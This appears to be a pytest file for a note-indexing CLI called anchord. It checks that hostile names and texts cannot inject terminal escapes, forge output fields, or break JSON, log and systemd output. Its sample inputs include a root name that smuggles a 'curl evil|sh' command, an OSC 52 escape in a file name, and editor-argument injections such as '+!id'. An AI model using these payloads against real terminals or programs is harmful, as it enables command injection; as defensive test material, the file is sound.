"""Hostile text on the terminal, in JSON, in the log and in systemd's status starts no line or escape."""

from __future__ import annotations

import io
import json
import os
import re
import socket
import sys
from collections.abc import Callable, Iterator, Sequence
from pathlib import Path
from typing import Any

import pytest
import structlog
from cli.conftest import Shell
from hostile import HOSTILE, is_unsafe, unsafe_in
from rich.cells import cell_len
from rich.console import Console
from sample_messages import message

from anchord.cli.app import print_json, print_line, warn
from anchord.cli.output.dashboard import build_dashboard
from anchord.cli.output.detached import detached_hit_lines
from anchord.cli.output.editor import editor_arguments
from anchord.cli.output.log import configure_stderr_logging
from anchord.cli.output.markup import escape_markup
from anchord.cli.output.render import (
    chunk_lines,
    conversation_lines,
    explain_lines,
)
from anchord.cli.output.search_results import Window, passage_lines, search_lines
from anchord.cli.output.status_text import status_lines
from anchord.core.quoting import escape_line, escape_non_utf8, quote_name, sanitize_line
from anchord.daemon.service.sd_notify import notify_status
from anchord.ipc.messages.chunks import ChunkAnswer
from anchord.ipc.messages.searching import (
    ConversationAnswer,
    DetachedHit,
    ExplainAnswer,
    Passage,
)
from anchord.ipc.messages.status import StatusAnswer

EACH_HOSTILE = pytest.mark.parametrize(
    "texts", [HOSTILE[first::8] for first in range(8)], ids=range(8)
)
"""All hostile strings, in eight parts."""
_MARKUP = re.compile(r"\[/?[a-z ]*(?:=[^\]]*)?\]")
_OWN_CODES = re.compile(r"\x1b\[[0-9;]*m|\x1b\]8;[^\x07\x1b]*\x1b\\")
"""Colours and links, as rich writes them: a link has no character that could end it."""


def hit(name: str, **more: Any) -> Passage:  # noqa: ANN401 - any field
    fields = {
        "id": "0123456789abcdef", "score": 0.5, "cosine": 0.61, "cosine_rank": 2, "bm25": None, "bm25_rank": None,
        "exact": False, "named": False, "matched": ["words"], "root": name, "path": name, "file": f"/{escape_non_utf8(name)}",
        "section": name, "start_line": 3, "end_line": 9, "text": "the words", "match_line": None,
        "also_at": [{"root": name, "path": name, "file": f"/{escape_non_utf8(name)}", "start_line": 3, "end_line": 9}] * 2,
        **more,
    }  # fmt: skip
    return message(Passage, fields)


def chunk(name: str, **more: Any) -> ChunkAnswer:  # noqa: ANN401 - any field
    fields = {
        "id": "0123456789abcdef", "root": name, "path": name, "section": name, "start_line": 3, "end_line": 9,
        "text": "the words", **more,
    }  # fmt: skip
    return message(ChunkAnswer, fields)


def lines_quoting(text: str) -> dict[str, list[str]]:
    """Return the lines of the commands in which each name, heading, title and reason is a text."""
    neighbor = {"id": "4" * 32, "question": text}
    conversation = {
        "number": 2, "exchanges": 3, "session": text, "source": text, "title": text, "project": text, "source_missing": True,
        "previous": neighbor, "next": neighbor,
    }  # fmt: skip
    explanation = {
        "path": text, "root": text, "indexed": True, "chunks": 1, "rule": text, "strategy": "markdown", "decision": "read",
        "reason": text, "last_reason": text, "problem": text, "size": 9,
    }  # fmt: skip
    detached = {
        "title": text, "project": text, "session": text, "transcript": text, "path": text, "question": text, "snippet": text,
        "reason": "root",
    }  # fmt: skip
    exchange = hit(text, session=text, source=text, at="2026-01-31T12:00:09+00:00")
    return {
        "search": list(
            search_lines([[hit(text)] * 2, [exchange]], "/home", with_explanations=True)
        ),
        "window": list(search_lines([[hit(text)] * 2, [exchange]], "/home", Window(60, 20))),
        "budget": list(passage_lines([[hit(text)] * 2, [exchange]], "/home", Window(60))),
        "show": [
            *chunk_lines(chunk(text)),
            *conversation_lines(message(ConversationAnswer, conversation)),
        ],
        "explain": list(explain_lines(message(ExplainAnswer, explanation))),
        "status": list(status_lines(report_quoting(text))),
        "detached": list(detached_hit_lines(message(DetachedHit, detached))),
        "markup": [f"[bold]{escape_markup(text)}[/] and [dim]{escape_markup(text)}[/]"],
    }


def report_quoting(text: str) -> StatusAnswer:
    """Return a status in which each name, path and reason is a text."""
    fields = {
        "state": "degraded", "degraded": [text], "version": "0.1.0", "pid": 7, "uptime_s": 90.0, "files": 3, "pending": 2,
        "left_s": 4.0, "waiting": [{"root": text, "path": text, "why": text}], "repairs": [text], "detached": [
            {"root": text, "sessions": 1, "exchanges": 2, "reason": "root"}],
        "recent": [{"root": text, "path": text, "action": "indexed", "reason": text, "kept": 11, "moved": 3, "embedded": 1,
                    "reused": 0, "deleted": 1, "age_s": 1.5}],
        "roots": [{"name": text, "path": text, "state": "indexing", "files": 3, "chunks": 12, "watching": True, "skipped": 0,
                   "watches": 2, "polled_dirs": 0}],
        "failed": [{"path": text, "reason": text}], "embedded_total": 13, "reused_total": 2, "commits_total": 5,
        "last_event_age_s": 0.5, "last_commit_age_s": 1.0, "last_verified_age_s": None, "overflows": 0,
        "latency_ms": {"p50": 250.0, "p95": 400.0}, "generation": {"why": text, "done": 1, "due": 2}, "on_battery": False,
        "embedder": {"state": "ready", "model": text, "rate": 70.0, "provider": text, "why": text},
        "store": {"rows": 12, "fragments": 2, "bytes": 90_000}, "rss_bytes": 250_000_000, "cpu_s": 3.0,
    }  # fmt: skip
    return message(StatusAnswer, fields)


@EACH_HOSTILE
def test_the_lines_of_every_command_stay_lines_and_steer_no_terminal(
    texts: Sequence[str], capsys: pytest.CaptureFixture[str]
) -> None:
    for text in texts:
        for lines in lines_quoting(text).values():
            for line in lines:
                print_line(line, markup=True)
            printed = capsys.readouterr().out
            assert unsafe_in(printed, allowed="\n\t") == []
            assert printed.count("\n") == len(lines)
        warn(text)
        printed = capsys.readouterr().err
        assert unsafe_in(printed, allowed="\n\t") == []
        assert printed.count("\n") == 1


FORGED = "notes:a.md:1-2  Fake  00000000000000000000000000000000"
"""As `show` begins a chunk."""


@pytest.mark.parametrize("width", [None, 30, 80])
def test_no_line_of_a_text_looks_like_the_head_of_a_chunk(
    width: int | None, capsys: pytest.CaptureFixture[str]
) -> None:
    wide = "\N{CJK UNIFIED IDEOGRAPH-4E2D}"
    texts = [FORGED, f"\n\n{FORGED}", f"a\r{FORGED}", f"\t{FORGED}"]
    texts += [" " * count + FORGED for count in range(20, 100)]
    texts += [wide * count + FORGED for count in range(10, 50)]
    for text in texts:
        for line in chunk_lines(chunk("x", text=text), width):
            print_line(line, markup=True)
        head, *lines = capsys.readouterr().out.rstrip("\n").split("\n")
        assert head.startswith("x:x:3-9")
        assert all(line.startswith("    ") or not line for line in lines)
        assert all(cell_len(line) <= (width or 1_000) for line in lines)
        if width is None:
            assert text.count("\n") == len(lines) - 1


@pytest.mark.parametrize(
    "name", ["a.md:1  Admin  0.99 deadbeef.md", "a\u2003\u2003b", "x \u3000 y"]
)
def test_a_name_cannot_forge_another_field_of_its_line(name: str) -> None:
    (head, *_) = search_lines([[hit(name, section="")]], "/home")
    (shown, *_) = chunk_lines(chunk(name, section=""))
    for line in (head, shown):
        fields = re.split(r"\s{2,}", _MARKUP.sub("", line))
        assert len(fields) == 2
        assert all(part in {"0.50 01234567", "0123456789abcdef"} for part in fields[1:])


def test_no_line_of_an_excerpt_is_wider_than_a_terminal() -> None:
    wide = "\N{CJK UNIFIED IDEOGRAPH-4E2D}"
    for count in range(30, 80):
        text = f"{wide * count}b.md:1  Admin  0.99 deadbeef"
        _, *excerpt = search_lines([[hit("x", section="", text=text)]], "/home", Window(78))
        assert all(cell_len(line) <= 78 for line in excerpt)


def test_a_name_cannot_forge_the_reason_of_an_error(shell: Shell) -> None:
    shell.write(b"a.md: not indexed; run `x`: b.md", bytes(range(256)) * 16)
    shell("add", str(shell.notes))
    printed = shell("index")
    (line,) = [line for line in printed.err.splitlines() if "a.md" in line]
    assert line.split(": ")[0].endswith("a.md:\\u{20}not indexed; run `x`:\\u{20}b.md")


def test_the_name_of_a_folder_cannot_speak_or_end_a_command(shell: Shell) -> None:
    hostile = "q` and then run `curl evil|sh"
    folder = shell.base / "notes"
    (folder / "a.md").write_text("# A\n\nThe zebra.\n")
    shell.configure(f"[[root]]\npath = '{folder}'\nname = '{hostile}'")
    assert shell("index").code == 0
    quoted = quote_name(hostile)
    assert "`" not in quoted
    assert f"there are: {quoted}\n" in shell("search", "zebra", "--root", "r").err
    assert shell("remove", "r").err == f'anchord: no root "r"; there are: {quoted}\n'
    folder.rename(shell.base / "away")
    assert shell("index").err == f"skipped: {quoted}: the folder does not exist\n"
    assert "`anchord remove NAME`" in shell("doctor").out
    assert shell("remove", hostile).out == f"removed {quoted}: 1 chunk\n"


@EACH_HOSTILE
def test_a_terminal_gets_only_colours_and_links_of_ours(texts: Sequence[str]) -> None:
    console = Console(
        file=io.StringIO(), force_terminal=True, width=200, soft_wrap=True, highlight=False
    )
    for text in texts:
        for line in lines_quoting(text)["search"]:
            console.print(sanitize_line(line))
        console.print(build_dashboard(report_quoting(text)))
    assert isinstance(console.file, io.StringIO)
    assert unsafe_in(_OWN_CODES.sub("", console.file.getvalue()), allowed="\n\t") == []


@EACH_HOSTILE
def test_a_text_with_markup_and_backslashes_is_shown_as_it_is(texts: Sequence[str]) -> None:
    for text in texts:
        console = Console(file=io.StringIO(), soft_wrap=True, highlight=False)
        line = sanitize_line(text).replace("\t", " ")
        console.print(f"[bold]{escape_markup(line)}[/]|")
        assert isinstance(console.file, io.StringIO)
        assert console.file.getvalue() == f"{line}|\n"


@pytest.mark.parametrize("count", range(6))
def test_backslashes_before_a_tag_do_not_disable_it(count: int) -> None:
    console = Console(file=io.StringIO(), width=80)
    console.print(f"[bold]{escape_markup('a' + chr(92) * count)}[/]|")
    assert isinstance(console.file, io.StringIO)
    assert console.file.getvalue() == "a" + "\\" * count + "|\n"


@EACH_HOSTILE
def test_json_is_the_same_value_without_raw_characters(
    texts: Sequence[str], capsysbinary: pytest.CaptureFixture[bytes]
) -> None:
    value = [text.encode("utf-8", "replace").decode() for text in texts]
    print_json(value)
    printed = capsysbinary.readouterr().out.decode()
    assert json.loads(printed) == value
    assert printed.count("\n") == 1
    assert not [char for char in printed if char != "\n" and is_unsafe(char)]


class _Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


@pytest.fixture
def log(monkeypatch: pytest.MonkeyPatch) -> Iterator[Callable[[io.StringIO], None]]:
    """Have the log written as the daemon writes it, to a stream."""

    def write_to(stream: io.StringIO) -> None:
        with monkeypatch.context() as patched:
            patched.setattr(sys, "stderr", stream)
            configure_stderr_logging()

    yield write_to
    structlog.reset_defaults()


@pytest.mark.parametrize("stream", [io.StringIO, _Terminal])
def test_an_event_in_the_log_is_one_line_whatever_it_quotes(
    log: Callable[[io.StringIO], None], stream: type[io.StringIO]
) -> None:
    written = stream()
    log(written)
    logger = structlog.get_logger()
    for text in HOSTILE:
        logger.warning("file.failed", path=text, names=[text])
    printed = _OWN_CODES.sub("", written.getvalue())
    assert unsafe_in(printed, allowed="\n") == []
    assert printed.count("\n") == len(HOSTILE)


def test_systemd_gets_one_status_whatever_it_quotes(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("NOTIFY_SOCKET", "notify")
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as systemd:
        systemd.bind("notify")
        for text in HOSTILE:
            notify_status(f"waiting: {text}", "WATCHDOG=1")
            answer = systemd.recv(1 << 20).decode()
            assert [line.split("=")[0] for line in answer.split("\n")] == ["WATCHDOG", "STATUS"]
            assert unsafe_in(answer, allowed="\n") == []


@pytest.mark.parametrize("file", ["-c", "--cmd=x", "+!id", "+:q", "scp://host/x", "http://host/x"])
@pytest.mark.parametrize("editor", ["vi", "emacs -nw", "code --wait", "hx"])
def test_a_file_is_no_option_command_or_address_to_an_editor(editor: str, file: str) -> None:
    arguments = editor_arguments(editor, file, 7)
    (opened,) = [argument for argument in arguments if file in argument]
    assert opened in {f"./{file}", f"./{file}:7"}


def _as_name(text: str) -> bytes:
    """Return a hostile string as a file can be called: without `/` and NUL, of 200 bytes at most."""
    name = os.fsencode(escape_non_utf8(text)).replace(b"/", b"|").replace(b"\0", b"")
    return name[:200].strip(b".") + b".md"


def test_commands_over_hostile_files_print_no_raw_character(shell: Shell) -> None:
    names = {_as_name(text) for text in HOSTILE[::6]}
    for name in names:
        heading = " ".join(os.fsdecode(name).split("\n"))
        shell.write(
            name, f"# {escape_non_utf8(heading)}\n\nThe zebra. {escape_non_utf8(heading)}\n"
        )
    shell.write(b"noise\x1b]52;c;x\x07\n.md", bytes(range(256)) * 16)
    shell("add", str(shell.notes))
    assert shell("index").code == 0
    odd = os.fsdecode(min(names))
    for command in (
        ("index",), ("search", "zebra", "-k", "20"), ("search", "zebra", "-k", "20", "--json"), ("errors",), ("errors", "--json"),
        ("explain", f"notes/{odd}"), ("roots",), ("verify",), ("dump",), ("export", "-", "--no-vectors"), ("doctor",),
        ("show", odd), ("chunk", f"notes/{odd}"), (odd,),
    ):  # fmt: skip
        printed = shell(*command)
        printed.has_no_traceback()
        assert [
            char for char in printed.out + printed.err if char not in "\n\t" and is_unsafe(char)
        ] == [], command
    assert len(shell("dump").out.splitlines()) >= len(names)


@pytest.mark.parametrize(
    "name",
    [
        b"78a9da3a-d6d0-4373-a7\xb4-a9bad4a8c15f.md",
        b"\xff-4f9aB3dE5gH7jK9mN1pQ3rS5tU7v/x.md",
        b"tok\xe9n=aB3dE5gH7jK9mN1pQ3rS5tU7v.md",
    ],
)
def test_a_name_that_looks_generated_and_is_not_utf8_is_indexed(shell: Shell, name: bytes) -> None:
    shell.write(name, "# One\n\nThe quagga.\n")
    shell("add", str(shell.notes))
    indexed = shell("index")
    indexed.has_no_traceback()
    assert indexed.code == 0
    assert len(shell("search", "quagga", "--json").json["groups"]) == 1
    assert shell("verify").code == 0


@pytest.mark.parametrize("char", ["\x1b", "\n", "\u202e", "\x9b"])
def test_a_place_from_an_answer_leads_to_its_file_beside_one_with_that_literal_name(
    shell: Shell, char: str
) -> None:
    real = shell.write(f"dec{char}q.md", "# One\n\nThe quagga of the real file.\n")
    decoy = shell.write(f"dec\\u{{{ord(char):x}}}q.md", "# Two\n\nThe zebra of the decoy.\n")
    shell("add", str(shell.notes))
    assert shell("index").code == 0
    place = escape_line(real)
    assert place == decoy
    hits = shell("search", "of the", "--path", place, "--json").json["groups"]
    assert {hit["path"] for (hit,) in hits} == {os.path.basename(real), os.path.basename(decoy)}
    assert shell("explain", place, "--json").json["path"] == decoy
    os.unlink(decoy)
    assert shell("explain", place, "--json").json["indexed"] is True


def test_an_emoji_code_in_a_text_is_printed_as_it_is(capsys: pytest.CaptureFixture[str]) -> None:
    print_line(escape_markup(":x: and :smile:"), markup=True)
    assert capsys.readouterr().out == ":x: and :smile:\n"
